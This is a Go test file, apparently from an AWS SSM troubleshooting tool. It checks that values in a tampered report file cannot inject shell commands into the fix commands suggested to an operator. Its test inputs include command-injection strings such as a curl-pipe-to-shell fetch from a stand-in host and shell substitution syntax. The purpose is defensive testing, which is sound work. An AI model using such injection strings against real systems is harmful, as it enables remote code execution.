package outside

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"ssm-doctor/agent/report"
)

// TestHostileFile: a file of somebody else's puts nothing of its own into a command, where
// an operator with rights would paste it.
func TestHostileFile(t *testing.T) {
	t.Parallel()
	instances := sound()["ec2 describe-instances --filters Name=instance-id,Values="+one]
	groups := sound()["ec2 describe-security-groups --filters Name=group-id,Values=sg-0aaaaaaaaaaaaaaa1,sg-0aaaaaaaaaaaaaaa2"]
	worlds := map[string]world{
		"no profile":      sound().with("ec2 describe-instances", strings.Replace(instances, `"IamInstanceProfile":{"Arn":"arn:aws:iam::`+account+`:instance-profile/web"},`, "", 1)),
		"no such profile": sound().with("iam get-instance-profile", "!NoSuchEntity"),
		"empty profile":   sound().with("iam get-instance-profile", `{"InstanceProfile":{"Roles":[]}}`),
		"trust":           sound().with("iam get-role --role-name web", strings.Replace(sound()["iam get-role --role-name web"], "ec2.amazonaws.com", "lambda.amazonaws.com", 1)),
		"endpoint policy": sound().with("ec2 describe-vpc-endpoints", `{"VpcEndpoints":[`+vpce("ssm", "vpce-0000000000000000a", true, deny("Deny", "ssm:UpdateInstanceInformation"))+`,`+vpce("ssmmessages", "vpce-0000000000000000b", true, deny("Allow", "*"))+`]}`),
		"endpoint group":  sound().with("ec2 describe-security-groups", strings.Replace(groups, "10.0.0.0/16", "10.9.0.0/16", 1)),
		"no egress":       sound().with("ec2 describe-security-groups", strings.Replace(groups, `"IpPermissionsEgress":[{"IpProtocol":"-1","IpRanges":[{"CidrIp":"0.0.0.0/0"}]}]`, `"IpPermissionsEgress":[]`, 1)),
		"no policies":     sound().with("iam list-attached-role-policies", `{"AttachedPolicies":[]}`),
		"no endpoint":     sound().with("ec2 describe-vpc-endpoints", `{"VpcEndpoints":[`+vpce("ssm", "vpce-0000000000000000a", true, deny("Allow", "*"))+`]}`),
		"no endpoints":    sound().with("ec2 describe-vpc-endpoints", `{"VpcEndpoints":[]}`),
		"private DNS off": sound().with("ec2 describe-vpc-endpoints", `{"VpcEndpoints":[`+vpce("ssm", "vpce-0000000000000000a", false, deny("Allow", "*"))+`,`+vpce("ssmmessages", "vpce-0000000000000000b", true, deny("Allow", "*"))+`]}`),
		"metadata off":    sound().with("ec2 describe-instances", strings.Replace(instances, `"HttpEndpoint":"enabled"`, `"HttpEndpoint":"disabled"`, 1)),
		"network ACL":     sound().with("ec2 describe-network-acls", strings.Replace(sound()["ec2 describe-network-acls --filters Name=vpc-id,Values=vpc-0a1b2c3d4e5f60718"], `"RuleAction":"allow","Egress":true`, `"RuleAction":"deny","Egress":true`, 1)),
		"stopped":         sound().with("ec2 describe-instances", strings.Replace(instances, "running", "stopped", 1)),
	}
	commands := 0
	for name, w := range worlds {
		var journal []string
		b, err := json.Marshal(Collect(t.Context(), w.runner(&journal), Target{Region: "eu-central-1", IDs: []string{one}}, time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC), "test"))
		if err != nil {
			t.Fatal(err)
		}
		for _, value := range []string{"eu-central-1", account, ":aws:", "web", "sg-0aaaaaaaaaaaaaaa1", "sg-0aaaaaaaaaaaaaaa2", "subnet-0a1b2c3d4e5f60718", "vpc-0a1b2c3d4e5f60718", "vpce-0000000000000000a", "vpce-0000000000000000b", "10.0.1.5", "no such value"} {
			for _, bad := range []string{"x;curl evil.example|sh", "$(evil.example)", "`evil.example`", "--evil.example", "a evil.example", "a\\nevil.example"} {
				with := bad
				if value == ":aws:" {
					with = ":" + bad + ":"
				}
				f, err := Parse([]byte(strings.ReplaceAll(string(b), value, with)))
				if err != nil {
					continue
				}
				v := ViewOf(f)
				half := halfOf("", "", "")
				Merge(half, v)
				for _, r := range []*report.Report{half, Alone(v, one, "test")} {
					for _, c := range everyCommand(r) {
						commands++
						if strings.Contains(c, "evil.example") && !strings.Contains(c, "arn:"+bad+":") { // in one word of aws
							t.Errorf("%s, %s as %q: %s", name, value, bad, c)
						}
					}
				}
			}
		}
	}
	if commands < 500 {
		t.Errorf("%d commands", commands)
	}
}

// everyCommand are the commands of a report.
func everyCommand(r *report.Report) (out []string) {
	all := r.Also
	if r.RootCause != nil {
		all = append(all, *r.RootCause)
	}
	for _, c := range all {
		for _, s := range c.Fix {
			out = append(out, fmt.Sprint(s.Command))
		}
	}
	for _, n := range r.NotLookedAt {
		out = append(out, fmt.Sprint(n.Command))
	}
	return out
}
